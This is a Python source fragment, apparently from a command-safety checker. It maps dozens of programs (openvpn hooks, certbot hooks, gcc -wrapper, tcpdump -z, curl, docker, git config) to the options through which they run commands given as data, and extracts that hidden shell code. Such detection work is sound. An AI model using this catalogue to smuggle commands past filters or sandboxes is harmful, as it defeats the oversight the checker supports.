    "start-stop-daemon": _start_stop_daemon,
    "fd": _rest_after_until("-x", "--exec", "-X", "--exec-batch"),
    "fdfind": _rest_after_until("-x", "--exec", "-X", "--exec-batch"),
    "pidstat": _rest_after("-e"),
    "ksu": _by_options("-e"),
    "dhclient": _by_options("-sf"),
    "plymouth": _by_options("--command"),
    "bpftrace": _chain(_by_options("-c"), _program_code("-e")),
    "gnuplot": _program_code("-e"),
    "openvpn": _by_options("--up", "--down", "--route-up", "--route-pre-down", "--ipchange",
                           "--client-connect", "--client-disconnect", "--learn-address", "--tls-verify",
                           "--auth-user-pass-verify"),
    "certbot": _by_options("--pre-hook", "--post-hook", "--deploy-hook", "--renew-hook", "--manual-auth-hook",
                           "--manual-cleanup-hook"),
    "enscript": _by_options("-I", "--filter"),
    "yt-dlp": _by_options("--exec", "--exec-before-download"),
    "youtube-dl": _by_options("--exec"),
    "fzf": _fzf,
    "gem": _by_options("-e", "--editor"),
    "pip": _by_options("--editor"), "pip3": _by_options("--editor"),
    "borg": _by_options("--rsh"),
    "genie": _by_options("-c", "--command"),
    "busctl": _comma_program("--address"),
    "gcc": _comma_program("-wrapper"), "g++": _comma_program("-wrapper"), "cc": _comma_program("-wrapper"),
    "mail": _bang("--exec", "-E"), "mailx": _bang("--exec", "-E"),
    "hg": _bang("--config"),
    "restic": _by_options("--password-command"),
    "aria2c": _by_options("--on-download-complete", "--on-download-error", "--on-download-start",
                          "--on-download-stop", "--on-download-pause", "--on-bt-download-complete"),
    "dnsmasq": _by_options("--conf-script", "--dhcp-script"),
    "tcpdump": _by_options("-z"),
    "uv": _subcommand_runs("run"),
    # Python project managers run a command in the project's environment: poetry run python -c CODE
    **dict.fromkeys(("poetry", "pipenv", "pdm", "hatch", "rye", "pixi"), _subcommand_runs("run")),
    **dict.fromkeys(("conda", "mamba", "micromamba"),
                    _subcommand_runs("run", valued=frozenset({"-n", "--name", "-p", "--prefix", "--cwd"}))),
    "bundle": _subcommand_runs("exec"),
    "cabal": _subcommand_runs("exec"),
    "task": _subcommand_runs("execute"),
    "xdotool": _subcommand_runs("exec"),
    "gum": _subcommand_runs("spin"),  # gum spin [--title T] -- CMD; confirm/input/choose/style: text
    "perf": _subcommand_runs("stat", "record", "trace"),
    "codex": _subcommand_runs("sandbox", skip=1),
    "run-parts": _run_parts,
    **dict.fromkeys(("rpm", "rpmdb", "rpmquery", "rpmverify", "rpmbuild", "rpmspec"), _rpm),
    "csvtool": _csvtool,
    **{name: _web_shell(name) for name in ("curl", "curlie", "wget", "wget2", "http", "https", "xh", "xhs")},
    "httpie": _web_shell("httpie"),
    "perlbug": _by_options("-e"),
    "slsh": _program_code("-e"),
    "script": _script,
    "capsh": _capsh,
    "sed": _sed, "gsed": _sed,
    "ip": _ip,
    "cpio": _by_options("--rsh-command"),
    "c89": _comma_program("-wrapper"), "c99": _comma_program("-wrapper"),
    "clang": _comma_program("-wrapper"),
    "arpwatch": _by_options("-M"),  # arpwatch -M PROG: the program it mails reports with
    "docker": _container, "podman": _container, "nerdctl": _container,
    "lxc": _subcommand_runs("exec", skip=1), "incus": _subcommand_runs("exec", skip=1),
    **{name: _kube_remote for name in ("kubectl", "oc")},
    **{name: _cloud_remote for name in ("aws", "az", "gcloud")},
    **{name: _terminal for name in TERMINALS},
}  # fmt: skip
"""Each program that runs a command given as data, and how to find it."""


def carried(name: str, values: Sequence[str], fed: Sequence[str], env: Sequence[str]) -> list[str]:
    """The shell code ``name`` runs from its arguments (``values``), its here-strings and
    here-documents (``fed``) and the environment it is given (``env``: ``PAGER=CMD``)."""
    found: list[str] = []
    for assignment in env:
        key, _, value = assignment.partition("=")
        found.extend(_variable_code(key, value))
        if key in PROMPT_VARIABLES:
            found.extend(substitutions(value))
        if key == "LESSOPEN" and value.startswith("echo "):
            found.append(f"cat {value[5:]}")  # LESSOPEN prints the name of the file less shows instead
    if name in ("export", "declare", "typeset", "local", "readonly", "env", "setenv"):
        for value in values:
            key, _, code = value.partition("=")
            found.extend(_variable_code(key, code))
            if key in PROMPT_VARIABLES:
                found.extend(substitutions(code))
        found.extend(_git_settings_code(environment_settings(values)))  # export GIT_CONFIG_COUNT=1 …
    if name == "git":  # GIT_CONFIG_PARAMETERS=… git, --config-env=KEY=VARIABLE: -c in other words
        given = [(k, v) for k, v in git_settings(values, env) if f"{k}={v}" not in values]
        found.extend(_git_settings_code(given))
    extract = _CARRIERS.get(name)
    if extract is not None:
        found.extend(code for code in extract(values, fed) if code.strip())
    if name not in _PRINTS and name not in _SHELL_NAMES:
        found.extend(_shell_in_arguments(values))
    if unknown_program(name):
        found.extend(_command_strings(values))
    elif name in _SHELL_NAMES or _SCRIPT_LANGUAGES.match(name):
        found.extend(_script_command_strings(name, values))
    return found
